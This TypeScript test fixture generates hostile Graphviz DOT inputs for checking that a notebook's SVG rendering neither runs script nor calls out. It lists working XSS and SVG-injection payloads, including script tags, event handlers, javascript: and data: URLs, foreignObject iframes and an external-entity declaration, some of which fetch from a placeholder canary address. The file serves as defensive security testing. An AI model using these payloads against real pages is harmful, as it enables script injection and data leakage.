/**
 * DOT texts of somebody who wants a script to run, or the reader's browser to call home, when a notebook is opened.
 * The payloads are put into all the places of a DOT text that can end up in an SVG or in an error message.
 */

import { AddGate, ComputationalGraph, InputGate } from "@gradus/core";

export interface Hostile {
  readonly payload: string;
  readonly place: string;
  readonly dot: string;
}

/** Graphviz copies the fonts and the style sheet into the SVG as they are, and names are what our own students choose. */
const thorough = ["graph font", "node font", "edge font", "style sheet", "gate name"];

/**
 * Every payload meets every third place, each time shifted by one, which keeps the test quick;
 * the places where it matters most meet them all.
 *
 * @param canary - the address that nobody may call
 */
export function hostileTexts(canary: string): Hostile[] {
  return Object.entries(payloads(canary)).flatMap(([payload, text], row) =>
    Object.entries(places)
      .filter(([place], column) => (row + column) % 3 === 0 || thorough.includes(place))
      .map(([place, put]) => ({ payload, place, dot: put(text) })),
  );
}

/** What an attacker would put there, by what it tries. */
export function payloads(canary: string): Record<string, string> {
  // Three ways to be noticed: a dialog, a call, and the trap in the page.
  const run = `fetch('${canary}/script');alert(1);top.__pwned=1`;
  return {
    "script element": `"><script>${run}</script><g x="`,
    "script element, well-formed": `x"/><script>${run}</script><g x="`,
    "script inside text": `x">a</text><script>${run}</script><text x="`,
    "script from outside": `x">a</text><script xlink:href="${canary}/x.js"/><text x="`,
    "load handler": `x" onload="${run}" y="`,
    "pointer handler": `x" onmouseover="${run}" onclick="${run}" y="`,
    "broken image": `"><image href="x" onerror="${run}"/><g x="`,
    "HTML image": `<img src=x onerror="${run}">`,
    "image from outside": `x">a</text><image width="9" height="9" href="${canary}/x.png"/><text x="`,
    "old image from outside": `x">a</text><image width="9" height="9" xlink:href="${canary}/x.png"/><text x="`,
    "use from outside": `x">a</text><use href="${canary}/x.svg#a"/><text x="`,
    "style import": `x">a</text><style>@import url('${canary}/x.css');</style><text x="`,
    "style background": `x" style="background:url(${canary}/x.png);fill:url(${canary}/x.svg#a)" y="`,
    "font from outside": `x">a</text><style>@font-face{font-family:f;src:url(${canary}/f)} text{font-family:f}</style><text x="`,
    "foreign HTML": `x">a</text><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${canary}/x.html"/></foreignObject><text x="`,
    "foreign HTML document": `x">a</text><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>${run}&lt;/script>"/></foreignObject><text x="`,
    animation: `x">a</text><animate attributeName="href" begin="0s" onbegin="${run}" values="javascript:${run}"/><text x="`,
    "second document": `"?><svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/><!--`,
    "style sheet instruction": `${canary}/x.css`,
    "style sheet with transformation": `${canary}/x.xsl" type="text/xsl`,
    "script address": `javascript:${run}`,
    "script address with a line break": `java\nscript:${run}`,
    "data address": `data:text/html,<script>${run}</script>`,
    "end of comment": `--><script>${run}</script><!--`,
    "end of CDATA": `]]></title></text></g></svg><script>${run}</script>`,
    entities: `"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${canary}/x.xml">]><svg>&x;</svg><!--`,
    "character references": `&#34;&#62;&lt;script&gt;${run}&lt;/script&gt;`,
    "control characters": `\u0001\u000b\u001b[31m\u202e\ufffe<svg onload="${run}">`,
  };
}

const quoted = (text: string): string => `"${text.replaceAll('"', '\\"')}"`;
const html = (text: string): string =>
  text.replaceAll("&", "&amp;").replaceAll('"', "&quot;").replaceAll("<", "&lt;").replaceAll(">", "&gt;");

const attribute =
  (name: string, rest = "") =>
  (text: string): string =>
    `digraph { a [${name}=${quoted(text)} ${rest}]; a -> b }`;
const edgeAttribute =
  (name: string, rest = "") =>
  (text: string): string =>
    `digraph { a -> b [${name}=${quoted(text)} ${rest}] }`;
const graphAttribute = (name: string) => (text: string) =>
  `digraph { ${name}=${quoted(text)}; label=l; a -> b }`;

const places: Readonly<Record<string, (text: string) => string>> = {
  "graph name": (text) => `digraph ${quoted(text)} { a }`,
  "node name": (text) => `digraph { ${quoted(text)} -> b }`,
  "cluster name": (text) => `digraph { subgraph ${quoted(`cluster${text}`)} { a } }`,
  "cluster label": (text) => `digraph { subgraph cluster { label=${quoted(text)}; a } }`,
  port: (text) => `digraph { a:${quoted(text)} -> b }`,
  "graph label": graphAttribute("label"),
  "graph font": graphAttribute("fontname"),
  "graph link": graphAttribute("URL"),
  "graph class": graphAttribute("class"),
  "graph identifier": graphAttribute("id"),
  background: graphAttribute("bgcolor"),
  "style sheet": graphAttribute("stylesheet"),
  "character set": graphAttribute("charset"),
  comment: graphAttribute("comment"),
  layout: graphAttribute("layout"),
  "image path": graphAttribute("imagepath"),
  "node label": attribute("label"),
  "outer label": attribute("xlabel"),
  "record label": attribute("label", "shape=record"),
  "node font": attribute("fontname"),
  "node link": attribute("URL", 'target="_top"'),
  "node reference": attribute("href"),
  "link target": attribute("target", 'URL="#"'),
  "node tooltip": attribute("tooltip", 'URL="#"'),
  image: attribute("image"),
  "image shape": attribute("shapefile", "shape=custom"),
  shape: attribute("shape"),
  style: attribute("style"),
  color: attribute("color"),
  "fill color": attribute("fillcolor", "style=filled"),
  "font color": attribute("fontcolor"),
  "node class": attribute("class"),
  "node identifier": attribute("id"),
  "edge label": edgeAttribute("label"),
  "edge font": edgeAttribute("fontname", "label=l"),
  "edge link": edgeAttribute("edgeURL"),
  "edge label link": edgeAttribute("labelURL", "label=l"),
  "edge head link": edgeAttribute("headURL", "headlabel=l"),
  "edge tooltip": edgeAttribute("edgetooltip"),
  "HTML label": (text) => `digraph { a [label=<${text}>] }`,
  "HTML text": (text) => `digraph { a [label=<<b>${html(text)}</b>>] }`,
  "HTML link": (text) => `digraph { a [label=<<table href="${html(text)}"><tr><td>x</td></tr></table>>] }`,
  "HTML image": (text) =>
    `digraph { a [label=<<table><tr><td><img src="${html(text)}"/></td></tr></table>>] }`,
  "HTML font": (text) => `digraph { a [label=<<font face="${html(text)}">x</font>>] }`,
  "HTML identifier": (text) =>
    `digraph { a [label=<<table id="${html(text)}"><tr><td>x</td></tr></table>>] }`,
  "text that does not end": (text) => `digraph { a [label="${text.replaceAll('"', '\\"')}`,
  "place of a node": (text) => `digraph { a -> ${text} }`,
  "gate name": (text) => {
    const gates = [new InputGate(1, text), new InputGate(2, text)];
    return new ComputationalGraph(new AddGate(gates, text)).forward().dot;
  },
  "whole text": (text) => text,
};
